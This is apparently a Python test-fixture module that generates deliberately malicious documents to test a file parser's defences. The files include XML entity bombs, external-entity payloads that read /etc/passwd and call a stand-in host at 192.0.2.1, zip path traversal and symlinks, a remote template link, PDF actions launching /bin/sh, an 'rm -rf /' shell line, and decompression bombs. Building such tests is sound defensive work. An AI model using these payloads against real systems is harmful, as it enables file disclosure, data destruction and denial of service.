"""Files made by hand to hurt a parser: each is a known way to eat memory, time, or a way out."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.hostile.corrupt import Bad
from tests.ingest.samples import pdf, repacked, sheet, slides, word

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lolololololololololol">%s]>
<r>&z;</r>""" % b"".join(
    b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10)
    for letter in range(ord("b"), ord("z") + 1)
)
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">
<!ENTITY y SYSTEM "http://192.0.2.1/steal">]><r>&x;&y;</r>"""
WORD_XML = b"""<?xml version="1.0" encoding="%s"?><w:document
xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body>
</w:document>"""
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>"
TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
MILLION = 1_000_000


def handmade(*, heavy: bool = True) -> Iterator[Bad]:
    """Yield them; those that take seconds to make only where `heavy` ones are wanted."""
    makers = (_containers, _sheets, _slides, _pdfs, _pages, _texts, _mails, _lines, _polyglots)
    for make in (*makers, _bombs) if heavy else makers:
        for name, data in make():
            yield Bad(name, data, "handmade")


# --- containers ---------------------------------------------------------------------------------


def _containers() -> Iterator[tuple[str, bytes]]:
    yield "laughs.docx", repacked(word(), word__document_xml=LAUGHS)
    yield "laughs-styles.docx", repacked(word(), word__styles_xml=LAUGHS)
    yield "laughs-odd-part.docx", odd_part(LAUGHS)
    yield "outside.docx", repacked(word(), word__document_xml=OUTSIDE)
    yield (
        "outside-utf16.docx",
        repacked(word(), word__document_xml=OUTSIDE.decode().encode("utf-16")),
    )
    yield "outside-utf7.docx", repacked(word(), word__document_xml=utf7(OUTSIDE))
    yield "deep.docx", repacked(word(), word__document_xml=_deep_word(100_000))
    yield "wide.docx", repacked(word(), word__document_xml=_wide_word(300_000))
    yield "slip.docx", _with_part(word(), "../../../../tmp/footnote-slipped", b"x")
    yield "link.docx", _with_link(word())
    yield "many.docx", _with_many(word(), 6_000)
    yield "lying.docx", lying_ratio(word())
    yield "overlap.docx", overlapping()
    yield "image.docx", _with_part(word(), "word/media/image1.png", huge_png())
    yield "template.docx", repacked(word(), **{"word___rels__settings_xml.rels": _REMOTE})
    yield "macro.docx", _with_part(word(), "word/vbaProject.bin", bytes(1000))
    yield "twins.docx", _with_part(word(), "word/document.xml", b"<not><the></same>")


def _sheets() -> Iterator[tuple[str, bytes]]:
    cells = b'<row r="%d"><c r="%s" t="inlineStr"><is><t>x</t></is></c></row>'
    corner = cells % (1, b"A1") + cells % (1_048_576, b"XFD1048576")
    yield "corner.xlsx", _with_sheet(corner)
    yield "strings.xlsx", _with_sheet(b'<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>')
    yield "dimension.xlsx", _with_sheet(cells % (1, b"A1"), b'<dimension ref="A1:XFD1048576"/>')
    many = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 300_000)
    )
    yield "rows.xlsx", _with_sheet(many)
    yield "laughs.xlsx", repacked(sheet(), xl__worksheets__sheet1_xml=LAUGHS)
    yield (
        "merged.xlsx",
        _with_sheet(
            cells % (1, b"A1"), after=b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
    )
    yield "image.xlsx", _with_part(sheet(), "xl/media/image1.png", huge_png())


def _slides() -> Iterator[tuple[str, bytes]]:
    yield "laughs.pptx", repacked(slides(), ppt__slides__slide1_xml=LAUGHS)
    yield "image.pptx", _with_part(slides(), "ppt/media/image1.png", huge_png())
    loop = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/slideLayout" Target="../slides/slide1.xml"/>'
        b"</Relationships>"
    )
    yield "loop.pptx", repacked(slides(), **{"ppt__slides___rels__slide1_xml.rels": loop})


def odd_part(content: bytes) -> bytes:
    """A Word file whose main part has a name that does not say it is XML."""
    with zipfile.ZipFile(io.BytesIO(word())) as old:
        types = old.read("[Content_Types].xml").replace(
            b"/word/document.xml", b"/word/document.bin"
        )
        links = old.read("_rels/.rels").replace(b"word/document.xml", b"word/document.bin")
    changed = repacked(word(), **{"[Content_Types]_xml": types, "_rels__.rels": links})
    return _with_part(changed, "word/document.bin", content)


def utf7(markup: bytes) -> bytes:
    """The same markup in an encoding in which no byte of it is a bracket."""
    return b'<?xml version="1.0" encoding="UTF-7"?>' + markup.decode().partition("?>")[2].encode(
        "utf-7"
    )


def lying_ratio(container: bytes) -> bytes:
    """A part that unpacks to 20 MB and claims to be packed no better than 50 to 1."""
    packed = bytearray(_with_part(container, "word/media/zero.bin", bytes(20 * MILLION)))
    start = packed.rfind(b"PK\x01\x02", 0, packed.rfind(b"word/media/zero.bin"))
    packed[start + 20 : start + 24] = struct.pack("<I", 400_000)
    return bytes(packed)


def overlapping() -> bytes:
    """A thousand entries of the directory that share the packed bytes of one part."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as container:
        container.writestr("word/a.xml", bytes(400_000))
    data = out.getvalue()
    start = data.find(b"PK\x01\x02")
    end = data.find(b"PK\x05\x06")
    tail = bytearray(data[end:])
    struct.pack_into("<HHII", tail, 8, 1000, 1000, 1000 * (end - start), start)
    return data[:start] + data[start:end] * 1000 + bytes(tail)


def huge_png() -> bytes:
    """A picture of 60,000 by 60,000 points in a few kilobytes."""

    def part(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(MILLION))
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", body) + part(b"IEND", b"")


_REMOTE = b"""<?xml version="1.0"?><Relationships
xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>"""


def _with_part(container: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(container)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as copy:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        copy.NameToInfo.pop(name, None)  # a second part of one name is not warned of
        copy.writestr(info, content)
    return out.getvalue()


def _with_link(container: bytes) -> bytes:
    out = io.BytesIO(container)
    with zipfile.ZipFile(out, "a") as copy:
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = 0o120777 << 16
        copy.writestr(link, "/etc/passwd")
    return out.getvalue()


def _with_many(container: bytes, count: int) -> bytes:
    out = io.BytesIO(container)
    with zipfile.ZipFile(out, "a") as copy:
        for number in range(count):
            copy.writestr(f"word/{number}.xml", b"")
    return out.getvalue()


def _with_sheet(rows: bytes, before: bytes = b"", *, after: bytes = b"") -> bytes:
    content = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main">' + before + b"<sheetData>" + rows + b"</sheetData>" + after + b"</worksheet>"
    )
    return repacked(sheet(), xl__worksheets__sheet1_xml=content)


def _deep_word(depth: int) -> bytes:
    return WORD_XML % (
        b"utf-8",
        b"<w:sdt><w:sdtContent>" * depth + b"</w:sdtContent></w:sdt>" * depth,
    )


def _wide_word(count: int) -> bytes:
    return WORD_XML % (b"utf-8", b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * count)


# --- PDF ----------------------------------------------------------------------------------------


def _pdfs() -> Iterator[tuple[str, bytes]]:
    page, tree = PAGE, TREE
    plain = b"<</Length 30>>stream\nBT /F 9 Tf (hello) Tj ET q q q \nendstream"
    yield "prev.pdf", _pdf(tree, page, plain, trailer=b"/Prev 9")
    yield "prev-self.pdf", _pdf(tree, page, plain, prev_self=True)
    yield "kids-loop.pdf", _pdf(b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3>>", page, plain)
    yield "count.pdf", _pdf(b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>", page, plain)
    yield (
        "pages.pdf",
        _pdf(b"<</Type/Pages/Kids[" + b"3 0 R " * MILLION + b"]/Count 1000000>>", page, plain),
    )
    yield "tree.pdf", _page_tree(20)
    yield "box.pdf", _pdf(tree, page.replace(b"200 200", b"2000000 2000000"), plain)
    yield "array.pdf", _pdf(tree, page + b" " + b"[" * MILLION, plain)
    form = b"/Resources<</XObject<</X 4 0 R>>>>"
    own = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]%s/Length 12>>stream\n/X Do /X Do \nendstream"
    yield "form.pdf", _pdf(tree, page.replace(b"/Contents", form + b"/Contents"), own % form)
    script = (
        b"/OpenAction<</S/JavaScript/JS(while(1){})>>/AA<</O<</S/URI/URI(http://192.0.2.1/)>>>>"
    )
    yield "script.pdf", _pdf(tree, page, plain, catalog=script)
    yield "launch.pdf", _pdf(tree, page, plain, catalog=b"/OpenAction<</S/Launch/F(/bin/sh)>>")
    yield "name.pdf", _pdf(tree, page + b"/" + b"A" * 10 * MILLION, plain)


def _pdf(
    tree: bytes,
    page: bytes,
    content: bytes,
    *,
    catalog: bytes = b"",
    trailer: bytes = b"",
    prev_self: bool = False,
) -> bytes:
    objects = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", tree, page, content]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % at for at in places)
    if prev_self:
        trailer = b"/Prev %d" % xref
    out += b"trailer<</Size 5/Root 1 0 R" + trailer + b">>\nstartxref\n%d\n%%%%EOF" % xref
    return bytes(out)


def _flate(content: bytes, *, twice: bool = False) -> bytes:
    packed = zlib.compress(content, 9)
    filters = b"[/FlateDecode/FlateDecode]" if twice else b"/FlateDecode"
    return b"<</Length %d/Filter%s>>stream\n" % (len(packed), filters) + packed + b"\nendstream"


def _page_tree(depth: int) -> bytes:
    """A tree in which every node has its one child twice: two to the power of `depth` pages."""
    nodes = [
        b"%d 0 obj<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>\nendobj\n"
        % (number, number + 1, number + 1, 2 ** (depth + 2 - number))
        for number in range(2, depth + 2)
    ]
    leaf = b"%d 0 obj<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n" % (depth + 2)
    catalog = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    return b"%PDF-1.4\n" + catalog + b"".join(nodes) + leaf + b"trailer<</Root 1 0 R>>\n"


# --- text, markup, mail, lines ------------------------------------------------------------------


def _pages() -> Iterator[tuple[str, bytes]]:
    yield "deep.html", b"<html>" + b"<div>" * 200_000 + b"x"
    yield "deep-table.html", b"<html>" + b"<table><tr><td>" * 20_000 + b"x"
    yield (
        "attributes.html",
        b"<html><p " + b"".join(b"a%d=1 " % n for n in range(300_000)) + b">x</p>",
    )
    yield "titles.html", b"<html>" + b"<title " * 16_000 + b"x" * 5_000
    yield "comments.html", b"<html>" + b"<!--" * 500_000
    yield "entities.html", b"<html><p>" + b"&amp;lt;" * 500_000
    yield "laughs.html", b"<html>" + LAUGHS
    yield "brackets.html", b"<html>" + b"<" * 2 * MILLION
    yield "metas.html", b"<html>" + b"<meta " * 700_000
    yield "spans.html", b"<html><p>" + b"<b><i>" * 100_000 + b"x"
    yield "lists.html", b"<html>" + b"<ul><li>" * 30_000 + b"x"


def _texts() -> Iterator[tuple[str, bytes]]:
    yield "brackets.md", b"[" * 100_000
    yield "images.md", b"![" * 50_000 + b"](x)" * 50_000
    yield "stars.md", b"*a **b " * 30_000
    yield "quotes.md", b"> " * 50_000 + b"x"
    yield "ticks.md", b"".join(b"`" * n + b" " for n in range(2_000))
    yield "lists.md", b"".join(b" " * n + b"- x\n" for n in range(2_000))
    yield "table.md", b"|" * 100_000 + b"\n" + b"|-" * 100_000 + b"|\n" + b"|x" * 100_000
    yield "links.md", b"".join(b"[%d]: /u\n" % n for n in range(50_000)) + b"[a][" * 20_000
    yield "html.md", b"<!-- " * 200_000
    yield "entities.md", b"&" * 300_000
    yield "columns.csv", b"a," * MILLION
    yield "quote.csv", b'a,b\n"' + b"x,\n" * 3 * MILLION
    yield "delimiters.csv", b",;\t|" * 500_000
    yield "empty-rows.csv", b",\n" * 2 * MILLION
    yield "nothing.txt", bytes(5 * MILLION)
    yield "blank-lines.txt", b"\n " * 2 * MILLION
    yield "blanks.txt", b"\n" + b" " * 5 * MILLION + b"x"
    yield "numbers.txt", b"1. " * MILLION
    yield "one-word.txt", b"a" * 4 * MILLION
    yield "stops.txt", b"." * 4 * MILLION
    yield "joined.txt", b"a-" * 2 * MILLION
    yield "hidden.txt", "\u202e\u200b\U000e0041".encode() * 500_000 + b"x"
    yield "bidi.txt", "א\u202eabc\u2066".encode() * 100_000
    yield "marks.txt", ("z" + "\u0301" * 100_000).encode()
    yield "folded.txt", "ﷺ".encode() * 300_000  # one character, eighteen after NFKC


def _mails() -> Iterator[tuple[str, bytes]]:
    head = b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    several = head + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    yield (
        "parts.eml",
        several + b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" * 100_000 + b"--b--",
    )
    yield (
        "nested.eml",
        head
        + b"".join(
            b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n)
            for n in range(5_000)
        ),
    )
    yield "forwarded.eml", b"Content-Type: message/rfc822\r\n\r\n" * 5_000 + b"x"
    yield (
        "to.eml",
        head + b"To: " + b", ".join(b"a%d@example.org" % n for n in range(30_000)) + b"\r\n\r\nx",
    )
    yield "groups.eml", head + b"To: " + b"a:" * 20_000 + b"\r\n\r\nx"
    yield "comments.eml", head + b"To: " + b"(" * 20_000 + b"\r\n\r\nx"
    yield "words.eml", head + b"Subject: " + b"=?utf-8?q?a?= " * 20_000 + b"\r\n\r\nx"
    yield "quotes.eml", head + b'To: "' + b'\\"' * 50_000 + b"\r\n\r\nx"
    yield "date.eml", head + b"Date: " + b"1" * 100_000 + b"\r\n\r\nx"
    yield "charset.eml", head + b"Content-Type: text/plain; charset=" + b"x" * 10_000 + b"\r\n\r\nx"
    yield "parameters.eml", head + b"Content-Type: text/plain" + b"; a*0=b" * 10_000 + b"\r\n\r\nx"
    yield "headers.eml", b"X: y\r\n" * 500_000 + b"\r\nx"
    yield "base64.eml", head + b"Content-Transfer-Encoding: base64\r\n\r\n" + b"AAAA" * 4 * MILLION


def _lines() -> Iterator[tuple[str, bytes]]:
    yield "deep.jsonl", b'{"text":' + b"[" * 500_000
    yield "number.jsonl", b'{"id": ' + b"9" * 10_000 + b', "text": "x"}'
    yield (
        "surrogates.jsonl",
        json.dumps({"id": "\ud800", "title": "\udfff", "text": "\ud83d"}).encode(),
    )
    yield "keys.jsonl", json.dumps({str(n): n for n in range(200_000)} | {"text": "x"}).encode()
    yield "infinite.jsonl", b'{"text": "x", "a": NaN, "b": Infinity, "c": 1e999}'
    yield "blank.jsonl", b"\n" * 5 * MILLION
    yield "bad.jsonl", b"{\n" * 50_000
    yield "members.jsonl.gz", gzip.compress(b"", mtime=0) * 200_000


def _polyglots() -> Iterator[tuple[str, bytes]]:
    page = pdf([("Head", "A line of text.")])
    yield "zip-and-pdf.pdf", page + word()
    yield "pdf-and-zip.docx", page + word()
    yield "late-pdf.pdf", b"<html>" + b" " * 900 + page
    yield "picture.html", b"GIF89a<html><script>x</script><p>text"
    yield "program.pdf", b"\x7fELF" + bytes(200) + page
    yield "shell.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "sheet-as-word.docx", sheet()


# --- what unpacks to very much ------------------------------------------------------------------


def _bombs() -> Iterator[tuple[str, bytes]]:
    yield "ratio.docx", _with_part(word(), "word/media/zero.png", bytes(90 * MILLION))
    yield "flate.pdf", _pdf(TREE, PAGE, _flate(bytes(400 * MILLION)))
    yield (
        "flate-twice.pdf",
        _pdf(TREE, PAGE, _flate(zlib.compress(b"BT (x) Tj ET " * 20 * MILLION, 9), twice=True)),
    )
    yield "text.pdf", _pdf(TREE, PAGE, _flate(b"BT /F 9 Tf " + b"(aaaa) Tj " * 4 * MILLION))
    yield "nest.pdf", _pdf(TREE, PAGE, _flate(b"q " * 5 * MILLION))
    yield "bomb.jsonl.gz", gzip.compress(b'{"text": "' + b"x" * 200 * MILLION, mtime=0)
